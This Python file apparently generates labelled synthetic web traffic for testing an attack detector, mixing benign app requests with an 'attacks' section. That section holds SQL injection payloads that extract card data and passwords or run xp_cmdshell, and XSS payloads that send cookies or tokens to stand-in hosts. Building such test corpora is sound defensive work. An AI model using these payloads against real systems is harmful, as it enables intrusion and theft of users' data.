                    "dealbreakers": r.sample(["smoking", "no pets", "doesn't like travel"], 1), "height_cm": {"min": 150, "max": 200}}
            g.add("prefs", "PUT", DATE, "/v3/me/preferences", body=body, client=r.choice(["ios", "android"]))
        else:
            body = {"prompts": [{"q": "My most irrational fear", "a": r.choice(["Geese. Absolutely geese 🪿", "Replying-all by accident", "Spreadsheets without formulas 😱"])},
                                {"q": "Two truths and a lie", "a": r.choice(["I've been to 30 countries; I can't swim; I'm 6'2\"", "I speak 4 languages / I hate cheese / I've met the Pope"])}],
                    "job": r.choice(["Nurse @ Charité", "Software Engineer", "Barista & artist", "Analyst @ Union Insurance"]),
                    "school": r.choice(["Trinity College Dublin", "TU München", "서울대학교", "Université Paris-Saclay"])}
            g.add("profile-prompts", "PATCH", DATE, "/v3/me/profile", body=body, client=r.choice(["ios", "android"]))


def b_gaming(out):
    g = G(out, "b-gaming", "gaming", "pass")
    r = g.r
    for i in range(30):
        k = i % 6
        if k in (0, 1):
            g.add("leaderboard", "GET", GAME, "/api/v1/leaderboards/" + r.choice(["ranked", "speedrun-any%", "weekly", "clan"]),
                  query=[("season", r.choice(["2024-S4", "2025-S1"])), ("region", r.choice(["eu-west", "na-east", "apac", "sa"])),
                         ("sort", r.choice(["score", "wins", "kd_ratio", "elo"])), ("order", r.choice(["desc", "asc"])),
                         ("limit", 50), ("offset", r.choice([0, 50, 100, 450]))] + ([("around", r.choice(USERNAMES))] if r.random() < .3 else []),
                  client=r.choice(["web", "android", "ios"]))
        elif k == 2:
            players = [{"name": r.choice(USERNAMES + ["-=[Sn1p3r]=-", "[TTV] LunaPlays", "Ｔｏｋｙｏ＿Ｄｒｉｆｔ"]), "kills": r.randint(0, 30), "deaths": r.randint(0, 20),
                        "assists": r.randint(0, 15)} for _ in range(4)]
            body = {"match_id": uid(r), "mode": r.choice(["ranked-5v5", "br-squads", "1v1"]), "players": players,
                    "score": r.choice(["3-1", "13-11", "2-2 (OT)", "16-14"]), "duration_s": r.randint(300, 3000),
                    "replay_hash": hexs(r, 40), "anticheat": {"build": "ac-7.3.1", "sig": b64(rbytes(r, 48))}}
            g.add("match-report", "POST", GAME, "/api/v1/matches", body=body, client="server", auth="Bearer " + jwt(r, "https://auth.pixelguild.gg"))
        elif k == 3:
            tag, name = r.choice(LEET_CLANS)
            body = {"tag": tag, "name": name, "motto": r.choice(["gg or gg", "No ragequits. Ever.", "We select only the best 😎", "Work hard, drop harder", "1 for all & all for 1"]),
                    "recruiting": True, "min_elo": r.randint(800, 2200), "discord": "https://discord.gg/" + pick(r, ALNUM, 8)}
            g.add("clan", "POST", GAME, "/api/v1/clans", body=body, client="web")
        elif k == 4:
            g.add("ingame-chat", "POST", GAME, f"/api/v1/lobbies/{pick(r, ALNUM, 6).upper()}/chat",
                  body={"msg": r.choice(CHAT), "channel": r.choice(["team", "all", "party"])}, client=r.choice(["server", "web"]))
        else:
            g.add("player-search", "GET", GAME, "/api/v1/players", query=[("name", r.choice(USERNAMES + ["Sn1p3r", "ＴＯＫＹＯ", "김민지", "O'Brien"])),
                                                                      ("platform", r.choice(["pc", "ps5", "xbox", "switch"]))], client="web")


def b_livestream(out):
    g = G(out, "b-livestream", "livestream", "pass")
    r = g.r
    chans = ["lunaplays", "kimchi_gaming", "el_profe_fin", "taro_speedruns", "cryptodaily_de", "rahul_live"]
    for i in range(25):
        k = i % 5
        ch = r.choice(chans)
        if k in (0, 1, 2):
            body = {"text": r.choice(CHAT), "nonce": hexs(r, 16), "reply_parent_msg_id": r.choice([None, uid(r)]),
                    "emotes": r.choice([[], [{"id": "25", "start": 0, "end": 4}]])}
            g.add("chat", "POST", STREAM, f"/api/v1/channels/{ch}/messages", body=body, client=r.choice(["web", "android", "ios"]))
        elif k == 3:
            body = {"amount": r.choice(["2.00", "5.00", "10.00", "50.00"]), "currency": r.choice(["USD", "EUR", "BRL", "KRW"]),
                    "message": r.choice(["Love the stream!! Greetings from São Paulo 🇧🇷", "For the new mic 🎤 <3", "만원 후원합니다! 화이팅 💪",
                                         "Hydrate!! 💧 (not sponsored)", "пицца за мой счёт 🍕", "\u200fتحية من الرياض 👋", "gg on the clutch 1v4 !!!"]),
                    "display_name": r.choice(DISPLAY_NAMES), "anonymous": r.random() < .2, "tts": r.random() < .5}
            g.add("donation", "POST", STREAM, f"/api/v1/channels/{ch}/tips", body=body, client="web")
        else:
            g.add("chat-history", "GET", STREAM, f"/api/v1/channels/{ch}/messages",
                  query=[("before", iso_time(r)), ("limit", 100), ("include", "badges,emotes")], client="web")


def b_links(out):
    g = G(out, "b-links", "social", "pass")
    r = g.r
    for i in range(20):
        url = r.choice(URLS)
        k = i % 3
        if k == 0:
            g.add("unfurl-get", "GET", SOC, "/api/v2/link-preview", query=[("url", url)], client=r.choice(["web", "ios"]))
        elif k == 1:
            g.add("unfurl-post", "POST", SOC, "/api/v2/link-preview", body={"url": url, "context": "composer"}, client=r.choice(["android", "web"]))
        else:
            g.add("redirect", "GET", SOCWEB, "/l/", query=[("u", url), ("h", hexs(r, 12)), ("src", r.choice(["post", "bio", "dm"]))],
                  client="web", accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")


def b_auth(out):
    g = G(out, "b-auth", "auth", "pass")
    r = g.r
    pwds = ["S3cure!Pass#2024", "Tr0ub4dor&3", "correct horse battery staple", "N0t'MyP@ss", "pässwörd-Ä1!", "Qwerty!2345",
            "<3Luna<3Luna", "ILoveMyDog(Bella)2020", "hunter2hunter2", "Zoë*Müller*1990", "mañana~2024", "P@$$w0rd;;", "密码Password1"]
    for i in range(25):
        k = i % 6
        if k == 0:
            g.add("login-form", "POST", SOCWEB, "/session", body=form([("authenticity_token", b64(rbytes(r, 32))),
                                                                     ("user[email]", r.choice(["siobhan.obrien+orbit@gmail.com", "zoe.mueller@web.de", "kim_minji@naver.com", "d'angelo@example.com", "o'neill.mk@outlook.ie"])),
                                                                     ("user[password]", r.choice(pwds)), ("user[remember_me]", "1")]),
                  ctype="application/x-www-form-urlencoded", client="web", accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
        elif k == 1:
            g.add("login-json", "POST", BANK, "/api/v1/auth/login", body={"username": r.choice(USERNAMES), "password": r.choice(pwds),
                                                                          "device": {"id": uid(r), "name": r.choice(["Zoë's iPhone", "Pixel 8 (work)", "O'Brien MacBook"])}},
                  client=r.choice(["ios", "android", "web"]))
        elif k == 2:
            g.add("mfa", "POST", BANK, "/api/v1/auth/mfa/verify", body={"challenge_id": uid(r), "code": pick(r, "0123456789", 6), "method": r.choice(["totp", "sms", "push"])},
                  client=r.choice(["ios", "android"]))
        elif k == 3:
            g.add("sso-directory", "GET", SSO, "/api/directory/users",
                  query=[("q", r.choice(["O'Brien", "müller", "Zhang Wei", "Smith, John", "Anna Schmidt (extern)", "Sch*", "first.last+finance@ledgerly.co", "d'arcy", "Nguyễn"])),
                         ("fields", "displayName,mail,department"), ("limit", 10)], client="web")
        elif k == 4:
            g.add("oidc-callback", "GET", SOCWEB, "/auth/callback/google",
                  query=[("state", b64u(json.dumps({"n": pick(r, ALNUM, 16), "r": "/settings/security?tab=devices"}))), ("code", "4/0A" + pick(r, ALNUM + "-_", 70)),
                         ("scope", "email profile openid https://www.googleapis.com/auth/userinfo.email https://www.googleapis.com/auth/userinfo.profile"),
                         ("authuser", "0"), ("prompt", "none")],
                  client="web", accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8", referer="https://accounts.google.com/")
        else:
            g.add("refresh", "POST", IDP, "/oauth2/token", body=form([("grant_type", "refresh_token"), ("refresh_token", pick(r, ALNUM + "-_.", 86)), ("client_id", "lumen-ios")]),
                  ctype="application/x-www-form-urlencoded", client="ios")


def b_notifications(out):
    g = G(out, "b-notifications", "social", "pass")
    r = g.r
    templates = [
        ("payment_received", "de-DE", "Zahlung erhalten: {{amount}} {{currency}}",
         "Hallo {{first_name}},\n\nwir haben Ihre Zahlung über {{amount | money}} erhalten.\n\n{% if invoice_url %}Rechnung: {{invoice_url}}{% endif %}\n\nIhr Ledgerly-Team"),
        ("claim_approved", "en-GB", "Good news, {{ customer.first_name }}!",
         "Your claim {{ claim.id }} was approved. We'll pay {{ claim.payout | currency: 'EUR' }} into your account ending {{ account.last4 }} within 3 working days."),
        ("otp_sms", "en-US", "", "Your Lumen code is {{code}}. Don't share it with anyone — we'll never ask for it."),
        ("new_follower", "es-ES", "{{follower.display_name}} ahora te sigue", "¡Hola {{user.first_name}}! {{follower.display_name}} (@{{follower.username}}) empezó a seguirte."),
        ("payout_sent", "fr-FR", "Virement envoyé", "Bonjour {{ first_name }}, votre virement de {{ amount }} € est en route 🚀"),
    ]
    for i in range(15):
        k = i % 3
        if k == 0:
            name, loc, subj, bodyt = templates[(i // 3) % len(templates)]
            g.add("template-edit", "PUT", ACC, f"/api/v1/notification-templates/{name}",
                  body={"channel": "sms" if "sms" in name else "email", "locale": loc, "subject": subj, "body": bodyt, "engine": "liquid"}, client="web")
        elif k == 1:
            body = {"email": {"marketing": False, "transactions": True, "weekly_digest": r.random() < .5},
                    "push": {"mentions": True, "likes": r.random() < .5, "live": True},
                    "quiet_hours": {"from": "22:00", "to": "07:00", "tz": r.choice(["Europe/Berlin", "Asia/Seoul", "America/Sao_Paulo", "Asia/Kolkata"])}}
            g.add("prefs", "PATCH", SOC, "/api/v2/me/notification-settings", body=body, client=r.choice(["ios", "android"]))
        else:
            g.add("push-token", "POST", SOC, "/api/v2/devices", body={"platform": "apns", "token": hexs(r, 64), "locale": "en_IE", "tz": "Europe/Dublin"},
                  client="ios")


def b_kyc(out):
    g = G(out, "b-kyc", "banking", "pass")
    r = g.r
    addrs = [{"line1": "Flat 3/2, 14 O'Connell St.", "line2": "c/o Murphy", "city": "Dublin", "postcode": "D01 F5P2", "country": "IE"},
             {"line1": "1600 Amphitheatre Pkwy #2B", "city": "Mountain View", "postcode": "94043", "country": "US"},
             {"line1": "서울특별시 강남구 테헤란로 152", "line2": "12층 1203호", "city": "서울", "postcode": "06236", "country": "KR"},
             {"line1": "Apt. #5, 12-3 Jingumae", "line2": "Shibuya-ku", "city": "Tokyo", "postcode": "150-0001", "country": "JP"},
             {"line1": "ул. Ленина, д. 5/2, кв. 17", "city": "Казань", "postcode": "420111", "country": "RU"},
             {"line1": "شارع الملك فهد، حي العليا", "city": "الرياض", "postcode": "12214", "country": "SA"},
             {"line1": "Hauptstr. 1 (Hinterhaus, 3. OG)", "city": "Berlin", "postcode": "10115", "country": "DE"},
             {"line1": nfd("Số 12 ngõ 34 phố Huế"), "city": nfd("Hà Nội"), "postcode": "100000", "country": "VN"}]
    for i in range(15):
        k = i % 3
        if k == 0:
            first, _, last = r.choice(NAMES).partition(" ")
            body = {"first_name": first, "last_name": last, "dob": f"19{r.randint(60, 99)}-{r.randint(1, 12):02d}-{r.randint(1, 28):02d}",
                    "address": r.choice(addrs), "tax_residency": [{"country": "DE", "tin": "12 345 678 901"}], "pep": False,
                    "occupation": r.choice(["Self-employed", "Student", "Software engineer", "Retired"]), "source_of_funds": r.choice(["salary", "savings", "crypto gains (2017–2021)"])}
            g.add("applicant", "POST", BANK, "/v1/kyc/applicants", body=body, client=r.choice(["ios", "android"]))
        elif k == 1:
            ct, body = multipart(r, [("type", r.choice(["passport", "id_card", "residence_permit", "utility_bill"])), ("side", r.choice(["front", "back"])),
                                     ("file", f"scan_{r.randint(1, 99)}.jpg", "image/jpeg", fake_image(r, n=300))], style="okhttp")
            g.add("document", "POST", BANK, f"/v1/kyc/applicants/{uid(r)}/documents", body=body, ctype=ct, client="android")
        else:
            g.add("address-autocomplete", "GET", BANK, "/v1/address/autocomplete",
                  query=[("q", r.choice(["14 O'Connell", "Hauptstr 1", "テヘラン", "Flat #3", "rue de l'Égl", "5/2 Ленина"])), ("country", r.choice(["IE", "DE", "KR", "FR", "RU"]))],
                  client=r.choice(["web", "ios"]))


def b_misc(out):
    g = G(out, "b-misc", "misc", "pass")
    r = g.r
    for i in range(20):
        k = i % 7
        if k == 0:
            g.add("feed", "GET", SOC, "/api/v2/feed", query=[("cursor", b64(json.dumps({"id": r.randint(10**17, 10**18), "ts": ts(r)}))), ("limit", 20),
                                                           ("include", "media,polls,reactions")], client=r.choice(["ios", "android", "web"]))
        elif k == 1:
            g.add("healthz", "GET", r.choice([SOC, BANK, CX]), r.choice(["/healthz", "/readyz", "/livez"]), client="kube")
        elif k == 2:
            body = {"csp-report": {"document-uri": "https://orbit.social/feed", "referrer": "", "violated-directive": "script-src-elem",
                                   "effective-directive": "script-src-elem",
                                   "original-policy": "default-src 'self'; script-src 'self' 'nonce-" + b64(rbytes(r, 16)) + "' https://cdn.orbit.social; img-src * data:; report-uri /csp-report",
                                   "disposition": "enforce", "blocked-uri": r.choice(["https://www.googletagmanager.com/gtm.js?id=GTM-K7X9Q2", "inline", "eval", "chrome-extension"]),
                                   "line-number": r.randint(1, 400), "column-number": r.randint(1, 80), "source-file": "https://orbit.social/feed", "status-code": 200, "script-sample": ""}}
            g.add("csp-report", "POST", SOCWEB, "/csp-report", body=body, ctype="application/csp-report", client="web", cookie=False)
        elif k == 3:
            body = {"events": [{"name": r.choice(["screen_view", "tap_send", "wallet_opened", "stream_join"]), "ts": ts(r) * 1000,
                                "props": {"screen": r.choice(["Home", "Wallet", "Chat/lunaplays", "Settings › Security"]), "ab": "exp_42:B", "ref": r.choice(URLS)}}],
                    "sdk": "orbit-analytics-js/3.2.1"}
            g.add("beacon", "POST", SOCWEB, "/a/collect", body=jdump(body), ctype="text/plain;charset=UTF-8", client="web")
        elif k == 4:
            g.add("preflight", "OPTIONS", SOC, "/api/v2/posts", client="web", cookie=False,
                  extra=[("Access-Control-Request-Method", "POST"), ("Access-Control-Request-Headers", "authorization,content-type,x-client-nonce")])
        elif k == 5:
            g.add("static", "GET", SOCWEB, f"/assets/app-{hexs(r, 8)}.js", client="web", accept="*/*",
                  extra=[("If-None-Match", f'W/"{r.randint(1000, 99999):x}-{pick(r, ALNUM, 27)}"'), ("If-Modified-Since", "Tue, 03 Dec 2024 10:12:55 GMT")])
        else:
            g.add("metrics", "GET", r.choice([SOC, BANK]), "/metrics", client="server", accept="application/openmetrics-text;version=1.0.0,text/plain;version=0.0.4;q=0.5,*/*;q=0.1",
                  extra=[("X-Prometheus-Scrape-Timeout-Seconds", "10")])


# --------------------------------------------------------------------------
# dev-content: programming / security talk by ordinary users (still "pass")
# --------------------------------------------------------------------------

DEV_POSTS = [
    "Is this safe?\n```python\ncur.execute(\"SELECT * FROM users WHERE name = '%s'\" % name)\n```\nSomeone on Discord said it's injectable with `' OR '1'='1`. How do I fix it?",
    "Use parameters, never string formatting:\n```python\ncur.execute(\"SELECT id, balance FROM accounts WHERE owner_id = %s\", (owner_id,))\n```",
    "For the leaderboard I ended up with\n```sql\nSELECT player, score, RANK() OVER (ORDER BY score DESC) AS pos\nFROM results WHERE season = '2024-S4'\nLIMIT 100;\n```\nfast enough on 2M rows with an index on (season, score).",
    "TIL `UNION SELECT` injection still works on half the boxes in our CTF qualifier 🤦 writeup soon",
    "My budgeting app export: `sqlite3 budget.db \"SELECT date, amount FROM tx WHERE category='groceries'\" > groceries.csv`",
    "React escapes by default, but `dangerouslySetInnerHTML={{__html: bio}}` with a bio like `<img src=x onerror=alert(1)>` will fire. Sanitize with DOMPurify!",
    "Classic XSS demo for my students: `<script>alert('hi')</script>` — then we talk about CSP and output encoding.",
    "To back up the ledger: `pg_dump -Fc ledger > /tmp/ledger.dump && scp /tmp/ledger.dump backup:~/dumps/`",
    "Quick way to watch my bot's logs: `tail -f /var/log/gridbot/bot.log | grep --line-buffered ERROR`",
    "My bot crashed with KeyError. Config loader:\n```python\nimport os\nkey = os.environ['CH_API_KEY']\nsecret = os.environ.get('CH_API_SECRET')\n```",
    "Signing requests for the CoinHarbor API:\n```python\nsig = hmac.new(secret.encode(), f\"{ts}{method}{path}{body}\".encode(), hashlib.sha256).hexdigest()\n```",
    "Remember Dec 2021? Anything that logged `${jndi:ldap://x/a}` from a User-Agent got owned. Patch your log4j, folks.",
    "Jinja help: `{% for tx in transactions %}{{ tx.amount|round(2) }} {{ tx.currency }}{% endfor %}` prints nothing, why?",
    "Files are under `../data/` relative to the script — use `os.path.join(os.path.dirname(__file__), '..', 'data')`",
    "Reported an SSRF where the link preview fetched `http://169.254.169.254/latest/meta-data/` 💰 $1,500 bounty, fixed in 2 days.",
    "`db.users.find({ age: { $gt: 18 } })` returns nothing in mongosh, but works in Compass?",
    "Our AD filter is `(&(objectClass=user)(sAMAccountName={0}))` — escape `*()\\` before substituting or you'll have a bad time.",
    "Excel keeps turning `=1+1` into 2 in my CSV export. Prefix cells that start with = + - @ with a `'` to be safe.",
    "What does `curl -s https://api.coinharbor.exchange/api/v2/orderbook?market=BTC-USDT | jq '.bids[:5]'` return for you? Mine is empty.",
    "Docker tip for self-hosting the bot: `docker run -d --restart=always -v $(pwd)/config:/app/config gridbot:latest`",
    "Don't do `eval(input())` in your trading bot 😅 use `ast.literal_eval` if you must parse user input.",
    "PHP folks: `unserialize($_COOKIE['cart'])` is an RCE waiting to happen. Use json_decode.",
    "XXE 101: if your parser resolves `<!ENTITY xxe SYSTEM \"file:///etc/passwd\">`, turn off external entities (defusedxml in Python).",
    "Prototype pollution in one line: `Object.assign({}, JSON.parse('{\"__proto__\": {\"admin\": true}}'))` — why lodash.merge got patched.",
    "Made a Discord bot for our guild: `!rank @user` queries `SELECT elo FROM players WHERE discord_id = ?` with a prepared statement ✅",
    "Path traversal explained: `GET /download?file=../../etc/passwd` — always resolve and check the prefix.",
    "Anyone know why `git push --force-with-lease origin main` is rejected on the bot repo?",
    "Windows users: run `powershell -ExecutionPolicy Bypass -File .\\setup.ps1` to install the bot deps.",
    "Freemarker `${user.name}` shows literally in the mail preview — do I need `<#ftl>` at the top?",
    "cron for nightly rebalancing: `0 3 * * * cd /opt/bot && ./venv/bin/python rebalance.py >> rebalance.log 2>&1`",
]

DEV_BIOS = [
    "OSCP | bug bounty 🐞 | I break things (responsibly) | ../../ enthusiast",
    "AppSec @ fintech | <script>alert('hire me')</script> | opinions mine",
    "SELECT * FROM life WHERE coffee > 0; ☕",
    "rm -rf / (just kidding) | SRE | 🐧",
    "Building trading bots in Python & Rust 🦀 | `cargo run --release` is my cardio",
    "' OR 1=1 -- (my dating profile is injectable) 😜",
    "DBA. My favourite join is LEFT. DROP me a message.",
    "{{ 7*7 }} = 49 | template nerd | Jinja & Liquid",
]


def dev_content(out):
    g = G(out, "dev-content", "dev-content", "pass")
    r = g.r
    for i, text in enumerate(DEV_POSTS):
        k = i % 4
        if k == 0:
            g.add("forum-code", "POST", FORUM, f"/api/v1/threads/{r.randint(1000, 99999)}/posts",
                  body={"raw": text, "reply_to_post_number": r.choice([None, r.randint(1, 40)])}, client="web")
        elif k == 1:
            g.add("post-code", "POST", SOC, "/api/v2/posts", body={"text": text, "visibility": "public", "lang": "en", "client_nonce": uid(r)},
                  client=r.choice(["web", "ios", "android"]))
        elif k == 2:
            g.add("comment-code", "POST", SOC, "/api/v2/comments", body={"post_id": str(r.randint(10**17, 10**18)), "body": text}, client="web")
        else:
            g.add("forum-form", "POST", FORUM, "/posting.php", query=[("mode", "reply"), ("t", r.randint(1000, 99999))],
                  body=form([("subject", "Re: " + r.choice(["bot help", "SQL question", "security thread", "scripting corner"])), ("message", text),
                             ("form_token", hexs(r, 40)), ("creation_time", ts(r)), ("post", "Submit")]),
                  ctype="application/x-www-form-urlencoded", client="web", accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")
    for text in DEV_BIOS:
        g.add("bio", "PATCH", r.choice([SOC, DATE]), "/api/v2/me" if r.random() < .5 else "/v3/me/profile",
              body={"bio": text, "display_name": r.choice(DISPLAY_NAMES)}, client=r.choice(["web", "ios", "android"]))
    # chat and search by developers
    dev_chat = ["!sql SELECT COUNT(*) FROM subs", "run `npm i && npm run dev` first", "lol he typed DROP TABLE on stream 💀",
                "chat, is `sudo rm -rf node_modules` safe?", "<script> tags in chat don't work here, nice try 😂",
                "use `${VAR:-default}` in bash", "just pipe it: cat log | grep 500 | wc -l"]
    for text in dev_chat:
        g.add("stream-chat", "POST", STREAM, "/api/v1/channels/devstreams/messages", body={"text": text, "nonce": hexs(r, 16)}, client="web")
    for q in ["<script>", "' OR 1=1", "sql injection cheat sheet", "../../etc/passwd meaning", "${jndi:ldap}"]:
        g.add("search", "GET", FORUM, "/search", query=[("q", q), ("type", "topic")], client="web",
              accept="text/html,application/xhtml+xml,application/xml;q=0.9,*/*;q=0.8")


# --------------------------------------------------------------------------
# attacks
# --------------------------------------------------------------------------

def a_sqli(out):
    g = G(out, "a-sqli", "sqli", "detect")
    r = g.r
    qpay = ["REWE' OR '1'='1",
            "x' UNION SELECT iban,balance,owner_name,NULL FROM accounts-- -",
            "%' AND 1=0 UNION SELECT card_number,cvv,exp FROM cards WHERE '%'='",
            "Amazon' AND SLEEP(5)#",
            "';WAITFOR DELAY '0:0:5'--",
            "1' AND extractvalue(1,concat(0x7e,(SELECT @@version)))-- -",
            "'||(SELECT pg_sleep(5))||'",
            "x'/**/UnIoN/**/SeLeCt/**/username,password_hash/**/FrOm/**/users--",
            "' AND 1=CAST((SELECT iban FROM accounts LIMIT 1) AS int)--",
            "' || UTL_INADDR.get_host_name((SELECT banner FROM v$version WHERE rownum=1)) || '"]
    for p in qpay:
        g.add("txsearch", "GET", BANK, "/api/v1/transactions", query=[("q", p), ("from", "2024-11-01"), ("to", "2024-11-30"), ("page", 1)],
              client=r.choice(["web", "ios", "android"]))
    g.add("txsearch", "GET", BANK, "/api/v1/transactions", query="q=Lidl%2527%2520OR%25201%253D1--%2520&from=2024-11-01&page=1", client="web")
    lb = [("sort", "(CASE WHEN (SELECT SUBSTRING(password,1,1) FROM users WHERE username='admin')='a' THEN score ELSE elo END)"),
          ("order", "desc,(SELECT 1 FROM (SELECT SLEEP(5))x)"),
          ("sort", "score DESC; UPDATE wallets SET balance=999999 WHERE user_id=4711;--"),
          ("sort", "IF(1=1,SLEEP(3),score)"),
          ("offset", "0 UNION ALL SELECT NULL,table_name,NULL FROM information_schema.tables--"),
          ("limit", "50 PROCEDURE ANALYSE(EXTRACTVALUE(RAND(),CONCAT(0x3a,VERSION())),1)"),
          ("region", "eu-west' AND (SELECT 1 FROM (SELECT COUNT(*),CONCAT((SELECT user()),FLOOR(RAND(0)*2))x FROM information_schema.tables GROUP BY x)a)-- ")]
    for k, v in lb:
        base = {"season": "2024-S4", "region": "eu-west", "sort": "score", "order": "desc", "limit": "50", "offset": "0"}
        base[k] = v
        g.add("leaderboard", "GET", GAME, "/api/v1/leaderboards/ranked", query=list(base.items()), client=r.choice(["web", "android"]))
    bodies = [({"query": "rent' OR 1=1--", "limit": 50}, "web"),
              ({"query": "", "filters": {"categories": ["shopping') UNION SELECT email,password FROM users--"]}}, "web"),
              ({"query": "pizza", "sort": [{"field": "booked_at; DROP TABLE transactions--", "order": "desc"}]}, "ios"),
              ({"query": "", "filters": {"amount": {"gte": "0 OR 1=1", "lte": 500}}}, "web"),
              ({"query": "x' AND ASCII(SUBSTRING((SELECT password FROM users LIMIT 1),1,1))>64--"}, "android"),
              ({"merchant_id": "42 AND 1=(SELECT COUNT(*) FROM pg_catalog.pg_tables)", "query": ""}, "server")]
    for b, c in bodies:
        g.add("txfilter", "POST", BANK, "/api/v1/transactions/search", body=b, client=c,
              auth="Bearer " + jwt(r, f"https://{IDP}") if c == "server" else None)
    gql = [{"operationName": "Tx", "query": "query Tx($q:String!){transactions(search:$q){edges{node{id amount merchant}}}}",
            "variables": {"q": "' UNION SELECT id,iban,NULL FROM accounts--"}},
           {"query": "{ leaderboard(orderBy: \"score) OR 1=1--\") { name score } }"},
           {"operationName": "Statement", "query": "query Statement($acc:ID!){statement(account:$acc){lines{amount}}}",
            "variables": {"acc": "4711; SELECT pg_sleep(10)--"}}]
    for b in gql:
        g.add("graphql", "POST", SOC if "leaderboard" in b["query"] else BANK, "/graphql", body=b, client="web")
    g.add("cookie", "GET", BANK, "/api/v1/offers", query=[("placement", "home")], client="web", cookie="region=eu' AND SLEEP(5)-- -")
    g.add("cookie", "GET", SOC, "/api/v2/feed", query=[("limit", 20)], client="web", cookie="ab_bucket=" + quote("1' UNION SELECT NULL,version()--"))
    g.add("header", "GET", BANK, "/api/v1/accounts", client="server", auth="Bearer " + jwt(r, f"https://{IDP}"),
          extra=[("X-Account-Id", "4711' OR '1'='1")])
    g.add("header", "GET", ACC, "/api/v1/invoices", query=[("status", "open")], client="web",
          extra=[("X-Tenant", "ledgerly' AND 1=(SELECT 1 FROM pg_sleep(5))--")])
    for path in ["/api/v1/accounts/4711%20OR%201%3D1/transactions", "/api/v1/invoices/RE-2024-101'--",
                 "/api/v2/users/1%27%20AND%20%271%27%3D%271/posts"]:
        g.add("path", "GET", ACC if "invoices" in path else (SOC if "users" in path else BANK), path, client="web")
    g.add("login", "POST", SOCWEB, "/session", body=form([("user[email]", "admin'--"), ("user[password]", "x")]),
          ctype="application/x-www-form-urlencoded", client="web")
    g.add("login", "POST", SOCWEB, "/session", body=form([("user[email]", "' OR 1=1 LIMIT 1-- -"), ("user[password]", "whatever")]),
          ctype="application/x-www-form-urlencoded", client="web")
    g.add("login", "POST", BANK, "/api/v1/auth/login", body={"username": "admin' /*", "password": "*/ OR '1'='1"}, client="web")
    g.add("search", "GET", GAME, "/api/v1/players", query=[("name", "Sn1p3r' UNION SELECT steam_id,email,password FROM players--"), ("platform", "pc")], client="web")
    g.add("search", "GET", FORUM, "/search", query=[("q", "patch notes"), ("author", "1' ORDER BY 9-- -")], client="web")
    g.add("search", "GET", FORUM, "/search", query=[("q", "admin') OR ('a'='a"), ("type", "topic")], client="web")
    g.add("search", "GET", ACC, "/api/v1/invoices", query=[("customer", "x'; EXEC xp_cmdshell 'whoami'--")], client="web")


def a_xss(out):
    g = G(out, "a-xss", "xss", "detect")
    r = g.r
    posts = ["Привет всем! <img src=x onerror=\"fetch('https://x.example/c?'+document.cookie)\">",
             "\u200fمرحبا <svg onload=alert(document.domain)>",
             "今天的直播太精彩了<script>new Image().src='//steal.example/?c='+document.cookie</script>",
             "방송 최고 <img src=x onerror=alert`1`>",
             "gm frens 🌞 <iframe src=\"javascript:alert(document.cookie)\"></iframe> #BTC"]
    for p in posts:
        g.add("post", "POST", SOC, "/api/v2/posts", body={"text": p, "visibility": "public", "client_nonce": uid(r)}, client=r.choice(["web", "ios"]))
    comments = ["नमस्ते <details open ontoggle=alert(1)>", "[claim free USDT 🎁](javascript:alert(document.cookie))",
                "![x](https://x.example/a.png\" onerror=\"alert(1))", nfd("Cảm ơn <a onmouseover=alert(1)>bạn</a> nhiều!")]
    for p in comments:
        g.add("comment", "POST", SOC, "/api/v2/comments", body={"post_id": str(r.randint(10**17, 10**18)), "body": p}, client="web")
    g.add("bio", "PATCH", SOC, "/api/v2/me", body={"bio": "☕ | <iframe srcdoc=\"<script>parent.alert(1)</script>\"></iframe>"}, client="web")
    g.add("bio", "PATCH", SOC, "/api/v2/me", body={"bio": "jaVasCript:/*-/*`/*\\`/*'/*\"/**/(/* */oNcliCk=alert() )//%0D%0A%0d%0a//</stYle/</titLe/</teXtarEa/</scRipt/--!>\\x3csVg/<sVg/oNloAd=alert()//>\\x3e"}, client="web")
    g.add("bio", "PATCH", SOC, "/api/v2/me", body={"bio": "{{constructor.constructor('alert(document.cookie)')()}}"}, client="ios")
    g.add("bio", "PATCH", SOC, "/api/v2/me", body={"links": ["javascript:alert(1)//https://mysite.example"]}, client="web")
    for name, c in [("\"><script>alert(1)</script>", "web"), ("Zoë<svg/onload=confirm(1)>", "ios"), ("<img src=1 onerror=alert(1)>", "android")]:
        g.add("display-name", "PATCH", SOC, "/api/v2/me", body={"display_name": name}, client=c)
    for p in ["<body onpageshow=alert(1)>", "KEKW <marquee onstart=alert(1)>", "ㅋㅋㅋ<input autofocus onfocus=alert(1)>"]:
        g.add("chat", "POST", STREAM, "/api/v1/channels/lunaplays/messages", body={"text": p, "nonce": hexs(r, 16)}, client="web")
    g.add("donation", "POST", STREAM, "/api/v1/channels/lunaplays/tips",
          body={"amount": "5.00", "currency": "USD", "message": "สวัสดีค่ะ <video><source onerror=\"alert(1)\"></video>", "tts": True}, client="web")
    rich = ["<p>hi</p><img src=x onerror=eval(atob('YWxlcnQoZG9jdW1lbnQuY29va2llKQ=='))>",
            "<p><a href=\"&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)\">docs</a></p>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
            "<p>see below</p><meta http-equiv=\"refresh\" content=\"0;url=javascript:alert(1)\">"]
    for p in rich:
        g.add("forum-html", "POST", FORUM, f"/api/v1/threads/{r.randint(1000, 99999)}/posts", body={"html": p, "editor": "quill-2.0"}, client="web")
    for p in ["[url=javascript:alert(document.cookie)]patch notes[/url]", "[img]https://x.example/a.png\" onerror=\"alert(1)[/img]"]:
        g.add("forum-bbcode", "POST", FORUM, f"/api/v1/threads/{r.randint(1000, 99999)}/posts", body={"raw": p}, client="web")
    g.add("dating", "POST", DATE, f"/v3/matches/{uid(r)}/messages",
          body={"text": "Hey 😘 <a href=\"javascript:fetch('//x.example/'+localStorage.token)\">my pics</a>"}, client="android")
    g.add("clan", "POST", GAME, "/api/v1/clans", body={"tag": "XSS", "name": "Night Owls", "motto": "<svg><animate onbegin=alert(1) attributeName=x dur=1s>"}, client="web")
